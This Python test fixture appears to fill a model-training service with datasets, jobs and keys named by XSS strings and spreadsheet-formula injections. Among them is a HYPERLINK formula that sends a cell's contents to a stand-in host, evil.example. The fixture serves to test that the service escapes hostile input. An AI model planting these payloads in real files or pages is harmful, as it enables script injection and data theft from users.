"""What there is on the server that tests look at: names and cells that are code or a formula elsewhere, and jobs of all
ends."""

from __future__ import annotations

import io
import random
from dataclasses import dataclass

from service.client import Client, Job

SCRIPT = "<script>document.title='broken'</script>"
PICTURE = "<img src=x onerror=\"document.title='broken'\">"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
LONG = "a name of two hundred characters " * 6 + "ab"
MODEL = "hostile-names"
METADATA = {SCRIPT[:60]: PICTURE, "formula": FORMULA, "note": "as it was agreed on"}
# whatever of this is found as an element, a page has read a text as HTML
BROKEN = "document.title === 'broken' || document.querySelector('img[src=x]') !== null"


@dataclass(frozen=True, slots=True)
class Furnished:
    """Where it is, what opens it, and what is there."""

    url: str
    key: str
    dataset: str
    jobs: dict[str, Job]
    reader: str  # a key that may only read

    def path(self, pattern: str) -> str:
        """The path of a page, with something that is there in the place of each of its parts."""
        ids = {
            "/datasets/:id": f"/datasets/{self.dataset}",
            "/jobs/:id": f"/jobs/{self.jobs['succeeded'].id}",
            "dataset=:id": f"dataset={self.dataset}",
            ":failed": self.jobs["failed"].id,
            ":cancelled": self.jobs["cancelled"].id,
            ":name": MODEL,
            ":version": "1",
            ":ref": MODEL,
        }
        for part, value in ids.items():
            pattern = pattern.replace(part, value)
        assert ":" not in pattern, f"nothing is known that {pattern} could show"
        return pattern


def table(rows: int = 200, seed: int = 1) -> bytes:
    """A CSV whose names and cells are hostile; the target is a sum, with noise."""
    draw = random.Random(seed)
    lines = [",".join(quoted(name) for name in (SCRIPT, PICTURE, FORMULA, LONG, "price"))]
    for _ in range(rows):
        size, word = draw.uniform(1, 100), draw.choice((SCRIPT, PICTURE, FORMULA))
        cells = [f"{size:.2f}", quoted(word), f"{draw.random():.4f}", quoted(draw.choice(("+1+1", "@SUM(A1)", LONG)))]
        lines.append(",".join([*cells, f"{3 * size + 50 * (word == SCRIPT) + draw.gauss(0, 5):.2f}"]))
    lines.insert(50, f"{quoted(PICTURE)},too few")  # a reject
    return ("\n".join(lines) + "\n").encode()


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def furnish(client: Client, url: str, key: str) -> Furnished:
    """Upload, train two versions, and have a job of each end."""
    dataset = client.upload(io.BytesIO(table()), name=f"{SCRIPT} {PICTURE}.csv")
    client.upload(io.BytesIO(b"a,b\n1,2\n3,4\n"), name=FORMULA)
    for seed in (0, 1):
        client.train(dataset, "price", MODEL, metadata=METADATA, seed=seed, epochs=30)
    succeeded = next(job for job in client.jobs() if job.state == "succeeded")
    failing = client.train(
        dataset, "price", "diverging", wait=False, optimizer={"kind": "sgd", "learning_rate": 1e6}, scaler="none"
    )
    long = client.train(dataset, "price", "endless", wait=False, epochs=1_000_000, early_stopping=None, batch_size=1)
    client.cancel(long.id)
    reader = client.create_key(SCRIPT[:60], ["read"]).key
    jobs = {"succeeded": succeeded, "failed": failing, "cancelled": long}
    return Furnished(url, key, dataset.id, jobs, reader or "")
